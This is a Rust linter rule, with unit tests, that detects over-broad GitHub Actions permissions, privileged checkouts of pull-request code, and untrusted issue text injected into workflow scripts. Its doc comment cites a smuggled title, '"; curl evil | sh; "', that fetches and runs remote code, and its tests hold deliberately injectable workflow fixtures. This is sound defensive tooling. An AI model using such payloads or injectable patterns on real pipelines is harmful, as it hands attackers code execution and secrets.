//! Workflows that may do more than they need, or do it for anybody.

mod injection;

use schemas::severity::Severity;

use crate::automation::Automation;
use crate::automation::github::names_secrets;
use crate::automation::pipeline::{Access, Job, Pipeline, System};
use crate::outline::Span;
use crate::rules::{Check, File, Findings, Hit, rule};

rule!(
    /// ## What it finds
    /// In workflows: `permissions: write-all`; no `permissions` at all, so that the settings of the repository decide
    /// (medium); code of a pull request checked out where its author gets secrets and a token that writes
    /// (`pull_request_target`, `workflow_run`); and text that anybody can write, such as the title of an issue, pasted into a
    /// script, in composite actions too.
    ///
    /// Jobs that may only read and use no secrets are left alone. Where nothing but pull requests starts a workflow, pasted
    /// text is medium: a fork's run has no rights.
    ///
    /// ## Why it matters
    /// A script from somebody else's branch, or a title such as `"; curl evil | sh; "`, runs with everything that the job may do.
    ///
    /// ## Example
    /// ```text
    /// - run: echo "${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## How to fix
    /// Write `permissions: {}` at the top and give each job what it needs. Hand text over by `env:` and use `"$TITLE"`. Build
    /// pull requests under `pull_request`, and let a second workflow, without their code, do what needs rights.
    "servant/ci-excess-permission", Servant, High, version: 1, Check::Automation(check)
);

/// What starts a workflow with rights although somebody without rights caused it.
const PRIVILEGED_TRIGGERS: &[&str] = &["issue_comment", "pull_request_target", "workflow_run"];

/// What starts a workflow without rights, or by somebody who has them anyway.
const HARMLESS_TRIGGERS: &[&str] = &["merge_group", "pull_request", "schedule", "workflow_dispatch"];

/// Parts of what a checkout names when it takes the code of a pull request.
const FOREIGN_REFERENCES: &[&str] =
    &["github.event.pull_request.head.", "github.event.workflow_run.head_", "github.head_ref", "refs/pull/"];

/// Confidence, in permille, in what depends on settings outside of the repository: never worse than medium.
const UNSURE_PERMILLE: u16 = 650;

fn check(file: &File<'_>, automation: &Automation, found: &mut Findings<'_>) {
    let Automation::Pipeline(pipeline) = automation else { return };
    if pipeline.system == System::GitLab {
        return;
    }
    if pipeline.system == System::Workflow {
        check_grants(file, pipeline, found);
        if pipeline.is_started_by(PRIVILEGED_TRIGGERS) {
            check_checkouts(file, pipeline, found);
        }
    }
    let is_harmless = |trigger: &String| HARMLESS_TRIGGERS.contains(&trigger.as_str());
    let all_harmless = !pipeline.triggers.is_empty() && pipeline.triggers.iter().all(is_harmless);
    for step in able_jobs(file, pipeline).flat_map(|job| &job.steps) {
        let script = |(key, value): &(Span, Span)| (file.text(key) == "script").then(|| value.clone());
        let inputs = step.inputs.iter().filter_map(script).filter(|_| step.uses.is_some());
        for place in
            step.scripts.iter().cloned().chain(inputs).flat_map(|part| injection::places(&file.source.text, part))
        {
            let sure = if all_harmless { UNSURE_PERMILLE } else { 900 };
            let advice = "hand the text over by `env:` and use it as a quoted variable";
            report(file, place, sure, "text that anybody can write becomes part of a script", advice, found);
        }
    }
}

fn check_grants(file: &File<'_>, pipeline: &Pipeline, found: &mut Findings<'_>) {
    let own = pipeline.jobs.iter().filter_map(|job| job.grant.as_ref());
    for grant in pipeline.grant.iter().chain(own).filter(|grant| grant.access == Access::WriteAll) {
        let advice = "grant nothing at the top and each job what it needs";
        report(file, grant.span.clone(), 950, "may change everything", advice, found);
    }
    // What another workflow calls gets its rights from there.
    let is_called_only = pipeline.triggers.iter().all(|trigger| trigger == "workflow_call");
    if pipeline.grant.is_some() || (is_called_only && !pipeline.triggers.is_empty()) {
        return;
    }
    let silent: Vec<&Job> = pipeline.jobs.iter().filter(|job| job.grant.is_none()).collect();
    let places = if silent.len() == pipeline.jobs.len() && !silent.is_empty() {
        vec![pipeline.jobs_key.clone()]
    } else {
        silent.iter().map(|job| job.key.clone()).collect()
    };
    for place in places {
        let advice = "write `permissions: {}` at the top and give each job what it needs";
        report(file, place, UNSURE_PERMILLE, "no permissions are set: the repository's default decides", advice, found);
    }
}

fn check_checkouts(file: &File<'_>, pipeline: &Pipeline, found: &mut Findings<'_>) {
    for step in able_jobs(file, pipeline).flat_map(|job| &job.steps) {
        let is_checkout = step.uses.as_ref().is_some_and(|uses| file.text(uses).starts_with("actions/checkout@"));
        let is_foreign = |value: &Span| FOREIGN_REFERENCES.iter().any(|part| file.text(value).contains(part));
        let names = |(key, value): &&(Span, Span)| matches!(file.text(key), "ref" | "repository") && is_foreign(value);
        if let Some((_, value)) = step.inputs.iter().filter(|_| is_checkout).find(names) {
            let advice =
                "build pull requests under `pull_request`; let a workflow without their code do what needs rights";
            report(
                file,
                value.clone(),
                900,
                "code of a pull request is checked out with rights and secrets",
                advice,
                found,
            );
        }
    }
}

fn report(
    file: &File<'_>,
    span: Span,
    confidence_permille: u16,
    message: &str,
    suggestion: &'static str,
    found: &mut Findings<'_>,
) {
    if found.is_full() {
        return;
    }
    found.push(Hit {
        place: file.place(span),
        severity: Severity::High,
        confidence_permille,
        message: message.to_owned(),
        suggestion,
    });
}

/// The jobs that may do something: all but those that say that they only read, and have no secrets to lose.
fn able_jobs<'p>(file: &File<'_>, pipeline: &'p Pipeline) -> impl Iterator<Item = &'p Job> {
    pipeline.jobs.iter().filter(|job| {
        let has_secrets = pipeline.names_secrets_for_all || names_secrets(&file.source.text, job.span.clone());
        pipeline.access(job) != Some(Access::Read) || has_secrets
    })
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::rules::testing::check;
    use schemas::severity::Severity::{High, Medium};

    const WORKFLOW: &str = ".github/workflows/a.yml";

    /// A workflow with its steps from line 6 on.
    fn workflow(on: &str, permissions: &str, steps: &str) -> String {
        format!("on: {on}\npermissions: {permissions}\njobs:\n  a:\n    steps:\n      - {steps}\n")
    }

    #[test]
    fn rights_of_workflows() {
        let run = |text: &str, expected: &[_]| check(&RULE, WORKFLOW, text, expected);
        run(&workflow("push", "write-all", "run: make"), &[(2, High)]);
        run("on: push\njobs:\n  a: {permissions: write-all}\n", &[(3, High)]);
        run("on: push\njobs:\n  a: {steps: []}\n  b: {steps: []}\n", &[(2, Medium)]);
        run("on: push\njobs:\n  a: {permissions: {}}\n  b: {steps: []}\n", &[(4, Medium)]);
        for permissions in ["read-all", "{}", "{contents: write}", "{contents: read}"] {
            run(&workflow("push", permissions, "run: make"), &[]);
        }
        run("on: push\njobs:\n  a: {permissions: {contents: read}}\n", &[]);
        run("on: workflow_call\njobs:\n  a: {steps: []}\n", &[]);
    }

    #[test]
    fn code_of_others_with_rights() {
        let checkout = |on: &str, permissions: &str, reference: &str| {
            let with = format!("uses: actions/checkout@v4\n        with:\n          ref: {reference}");
            workflow(on, permissions, &with)
        };
        let run = |text: &str, expected: &[_]| check(&RULE, WORKFLOW, text, expected);
        let head = "${{ github.event.pull_request.head.sha }}";
        run(&checkout("pull_request_target", "{contents: write}", head), &[(8, High)]);
        run(
            &checkout("[push, workflow_run]", "{a: write}", "${{ github.event.workflow_run.head_branch }}"),
            &[(8, High)],
        );
        run(&checkout("{issue_comment: {types: [created]}}", "{a: write}", "refs/pull/1/merge"), &[(8, High)]);
        run(&checkout("pull_request", "{a: write}", head), &[]);
        run(&checkout("pull_request_target", "{a: write}", "${{ github.base_ref }}"), &[]);
        run(&checkout("pull_request_target", "{contents: read}", head), &[]);
        let leaks = checkout("pull_request_target", "read-all", head) + "      - run: x ${{ secrets.NPM_TOKEN }}\n";
        run(&leaks, &[(8, High)]);
        run(&leaks.replace("NPM", "GITHUB"), &[]);
    }

    #[test]
    fn text_of_others_in_scripts() {
        let run = |text: &str, expected: &[_]| check(&RULE, WORKFLOW, text, expected);
        let title = "run: echo ${{ github.event.issue.title }}";
        run(&workflow("issues", "{issues: write}", title), &[(6, High)]);
        run(
            &workflow("push", "{a: write}", "run: |\n          x\n          y ${{ github.head_ref || 'a' }}"),
            &[(8, High)],
        );
        let script =
            "uses: actions/github-script@v7\n        with:\n          script: x('${{ github.event.comment.body }}')";
        run(&workflow("issue_comment", "{a: write}", script), &[(8, High)]);
        run(&workflow("pull_request", "{a: write}", title), &[(6, Medium)]);
        run(&workflow("issues", "read-all", title), &[]);
        run(&workflow("issues", "{a: write}", "run: echo ${{ github.event.issue.number }} ${{ github.sha }}"), &[]);
        run(&workflow("issues", "{a: write}", "run: x ${{ contains(github.event.issue.title, 'a') }}"), &[]);
        run(
            &workflow(
                "issues",
                "{a: write}",
                "run: echo \"$T\"\n        env:\n          T: ${{ github.event.issue.title }}",
            ),
            &[],
        );
    }

    #[test]
    fn composite_actions() {
        let action = |run: &str| format!("runs:\n  using: composite\n  steps:\n    - run: {run}\n");
        check(&RULE, "action.yml", &action("echo ${{ github.event.issue.body }}"), &[(4, High)]);
        check(&RULE, "a/action.yml", &action("echo '${{github.head_ref}}'"), &[(4, High)]);
        for run in ["echo ${{ inputs.name }}", "echo $BODY", "echo ${{ github.repository }}"] {
            check(&RULE, "action.yml", &action(run), &[]);
        }
    }

    #[test]
    fn gitlab_has_other_rules() {
        check(&RULE, ".gitlab-ci.yml", "a:\n  script: echo ${{ github.head_ref }}\n", &[]);
    }
}
